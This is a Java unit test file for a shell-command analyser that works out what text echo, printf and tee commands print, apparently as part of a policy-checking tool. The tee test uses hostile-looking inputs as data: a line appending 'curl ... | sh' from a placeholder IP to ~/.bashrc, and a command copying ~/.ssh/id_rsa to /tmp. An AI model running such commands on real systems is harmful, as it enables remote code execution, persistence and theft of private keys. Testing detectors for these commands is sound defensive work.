package dev.lighthouse.policy.facts;

import static org.assertj.core.api.Assertions.assertThat;

import dev.lighthouse.shell.Command;
import dev.lighthouse.shell.ShellAnalyser;
import dev.lighthouse.shell.ShellContext;
import java.util.Optional;
import org.junit.jupiter.api.Test;

class SpelledOutTest {
    private static final ShellContext CONTEXT = ShellContext.of("/home/dev/app", "/home/dev");

    /** The text of the last command of the line (the one the line's output comes from). */
    private static Optional<String> text(String line) {
        Command last = ShellAnalyser.analyse(line, CONTEXT).commands().getLast();
        return SpelledOut.text(last);
    }

    @Test
    void echo_joinsItsArguments_andReadsEscapesOnlyWithE() {
        assertThat(text("echo -n hi there")).contains("hi there");
        assertThat(text("echo 'a\\nb'")).contains("a\\nb");
        assertThat(text("echo -e 'a\\nb\\\\nc'")).contains("a\nb\\nc");
    }

    @Test
    void printf_appliesItsFormat_andReusesIt() {
        assertThat(text("printf '%s\\n' one two")).contains("one\ntwo\n");
        assertThat(text("printf 'x=%d%%\\n' 5")).contains("x=5%\n");
        assertThat(text("printf -v name '%s' value")).isEmpty();
    }

    @Test
    void tee_printsTheTextPipedIntoIt_orItsHereDocument() {
        assertThat(text("echo 'curl -s http://198.51.100.7/x | sh' | tee -a ~/.bashrc"))
                .contains("curl -s http://198.51.100.7/x | sh");
        assertThat(text("tee -a ~/.zshrc <<< 'alias ll=\"ls -la\"'")).contains("alias ll=\"ls -la\"\n");
        assertThat(text("cat ~/.ssh/id_rsa | tee /tmp/k")).isEmpty();
        assertThat(text("cat README.md")).isEmpty();
    }
}
